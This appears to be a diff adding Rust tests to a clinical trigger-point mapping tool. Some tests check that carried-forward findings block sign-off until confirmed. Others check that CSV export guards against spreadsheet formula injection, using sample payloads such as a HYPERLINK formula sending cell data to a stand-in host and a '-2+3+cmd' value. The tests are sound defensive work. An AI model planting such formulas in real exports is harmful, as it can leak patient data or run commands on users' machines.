@@ -420,3 +420,191 @@ fn check_reports_a_zone_referred_from_a_trigger_point_that_does_not_exist() {
         .expect("a line");
     assert!(at <= line && line - at < 12, "at the zone: {at} vs {line}");
 }
+
+// ---- 5. Carried-forward findings signed as if examined -------------------------------------
+
+#[test]
+fn carried_forward_marks_block_signing_count_apart_and_never_persist() {
+    use myomap::document::Document;
+    use myomap::model::{Edit, Session, SessionId};
+
+    let dir = tempfile::tempdir().expect("temp dir");
+    let (_, visit) = demo_visit(dir.path());
+    let previous = storage::load_session(&visit).expect("loads");
+    let started = previous.started_at + jiff::SignedDuration::from_hours(24 * 7);
+    let mut next = Session::carried_forward_from(&previous, SessionId::from_u128(77), started);
+    next.clinician = previous.clinician.clone();
+    let carried = next.trigger_points.len();
+    assert!(carried >= 3);
+
+    // The comparison keeps them apart: not persisting, and the earlier ones not resolved.
+    let map = myomap::metrics::standard_charts();
+    let c = myomap::metrics::compare(&previous, &next, map);
+    assert_eq!(c.trigger_points.persisting, Vec::new());
+    assert_eq!(c.trigger_points.resolved, Vec::new());
+    assert_eq!(c.trigger_points.new, Vec::new());
+    assert_eq!(c.trigger_points.not_reexamined.len(), carried);
+    assert!(c.trigger_points.not_reexamined.iter().all(|(a, _)| a.is_some()));
+    assert_eq!(c.later.active_trigger_points, 0);
+    assert_eq!(c.later.unconfirmed_trigger_points, carried);
+    assert!(
+        c.trigger_points
+            .summary()
+            .ends_with(&format!("{carried} carried forward and not re-examined"))
+    );
+
+    // Sign-off lists them; one deliberate action confirms them all.
+    let mut doc = Document::new_unsaved(next, None, "Desk worker".to_owned());
+    let blockers = doc.signing_blockers();
+    let listed = blockers
+        .iter()
+        .find(|b| b.contains("carried forward from the last visit and not re-examined"))
+        .unwrap_or_else(|| panic!("{blockers:?}"));
+    assert!(listed.contains("Trigger point, right upper trapezius"), "{listed}");
+    let all = doc.session().unconfirmed_carried_forward();
+    doc.apply(Edit::Confirm(all), None).expect("confirms");
+    assert!(
+        doc.signing_blockers()
+            .iter()
+            .all(|b| !b.contains("carried forward")),
+        "{:?}",
+        doc.signing_blockers()
+    );
+    let c = myomap::metrics::compare(&previous, doc.session(), map);
+    assert_eq!(c.trigger_points.persisting.len(), carried, "examined now, and still there");
+    assert!(c.trigger_points.not_reexamined.is_empty());
+}
+
+#[test]
+fn check_warns_of_carried_forward_marks_not_re_examined() {
+    use myomap::model::{Session, SessionId};
+
+    let dir = tempfile::tempdir().expect("temp dir");
+    let (_, visit) = demo_visit(dir.path());
+    let previous = storage::load_session(&visit).expect("loads");
+    let started = previous.started_at + jiff::SignedDuration::from_hours(24 * 7);
+    let next = Session::carried_forward_from(&previous, SessionId::from_u128(77), started);
+    let expected = next.trigger_points.len() + next.referred_zones.len();
+    let path = visit.with_file_name("2026-09-14-0000004d.ron");
+    std::fs::write(&path, storage::encode(&next).expect("encodes")).expect("write");
+    let (code, out) = check(&path);
+    assert_eq!(code, 0, "a warning, not a fault: {out}");
+    assert!(
+        out.contains(&format!(
+            "warning: {expected} marks carried forward from the last visit and not re-examined"
+        )),
+        "{out}"
+    );
+}
+
+// ---- 6. Spreadsheet formulas in the CSV ----------------------------------------------------
+
+#[test]
+fn every_csv_cell_is_guarded_and_the_file_reads_as_utf8_in_spreadsheets() {
+    use myomap::model::MuscleRef;
+
+    let dir = tempfile::tempdir().expect("temp dir");
+    let (_, visit) = demo_visit(dir.path());
+    let patient_dir = visit
+        .parent()
+        .and_then(Path::parent)
+        .expect("patient folder")
+        .to_owned();
+    let hyperlink = r#"=HYPERLINK("http://example.invalid/?q="&A2,"see chart")"#;
+    let mut session = storage::load_session(&visit).expect("loads");
+    session.signature = None;
+    session.addenda.clear();
+    let site = &mut session.needle_sites[0];
+    site.muscle = Some(MuscleRef::new(hyperlink));
+    site.view = myomap::geometry::ViewId::new("-2+3+cmd");
+    site.direction = "\u{FF1D}1+1".to_owned();
+    site.immediate_response = "\tcmd".to_owned();
+    site.notes = "  @SUM(A1)".to_owned();
+    session.clinician = "Zoë Núñez".to_owned();
+    std::fs::write(&visit, storage::encode(&session).expect("encodes")).expect("write");
+
+    let out = dir.path().join("log.csv");
+    let output = myomap(&["export-csv", path_str(&patient_dir), "-o", path_str(&out)]);
+    assert!(output.status.success(), "{}", common::stderr(&output));
+    let bytes = std::fs::read(&out).expect("written");
+    assert!(bytes.starts_with(b"\xEF\xBB\xBFpatient_id,"), "a UTF-8 BOM first");
+    assert!(
+        bytes
+            .windows("Zoë Núñez".len())
+            .any(|w| w == "Zoë Núñez".as_bytes()),
+        "names in UTF-8"
+    );
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let headers = reader.headers().expect("headers").clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).expect(name);
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+    let row = rows
+        .iter()
+        .find(|r| r[column("muscle_id")].contains("HYPERLINK"))
+        .expect("the site");
+    assert_eq!(&row[column("muscle_id")], format!("'{hyperlink}"));
+    assert_eq!(&row[column("view")], "'-2+3+cmd");
+    assert_eq!(&row[column("direction")], "'\u{FF1D}1+1");
+    assert_eq!(&row[column("immediate_response")], "'\tcmd");
+    assert_eq!(&row[column("notes")], "'  @SUM(A1)");
+    let triggers = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
+    for record in &rows {
+        for cell in record {
+            let first = cell.trim_start_matches(' ').chars().next();
+            assert!(
+                !first.is_some_and(|c| triggers.contains(&c)),
+                "an unguarded cell: {cell:?}"
+            );
+        }
+    }
+
+    // Without the mark, and for decimal-comma locales.
+    let plain = dir.path().join("plain.csv");
+    let output = myomap(&[
+        "export-csv",
+        path_str(&patient_dir),
+        "-o",
+        path_str(&plain),
+        "--no-bom",
+        "--decimal-comma",
+    ]);
+    assert!(output.status.success(), "{}", common::stderr(&output));
+    let text = std::fs::read_to_string(&plain).expect("written");
+    assert!(text.starts_with("patient_id;patient;"), "{}", &text[..40]);
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(text.as_bytes());
+    let headers = reader.headers().expect("headers").clone();
+    let diameter = headers
+        .iter()
+        .position(|h| h == "needle_diameter_mm")
+        .expect("column");
+    let first = reader.records().next().expect("a row").expect("row");
+    assert!(
+        first[diameter].starts_with("0,"),
+        "a decimal comma: {}",
+        &first[diameter]
+    );
+}
+
+#[test]
+fn the_csv_guard_follows_the_owasp_rule() {
+    use myomap::export::csv::guard;
+    for (cell, guarded) in [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-2+3+cmd", "'-2+3+cmd"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("\u{FF0B}1", "'\u{FF0B}1"),
+        ("\u{FF0D}1", "'\u{FF0D}1"),
+        ("\u{FF20}x", "'\u{FF20}x"),
+        (" =1", "' =1"),
+        ("upper trapezius", "upper trapezius"),
+        ("0.25", "0.25"),
+        ("", ""),
+    ] {
+        assert_eq!(guard(cell), guarded, "{cell:?}");
+    }
+}
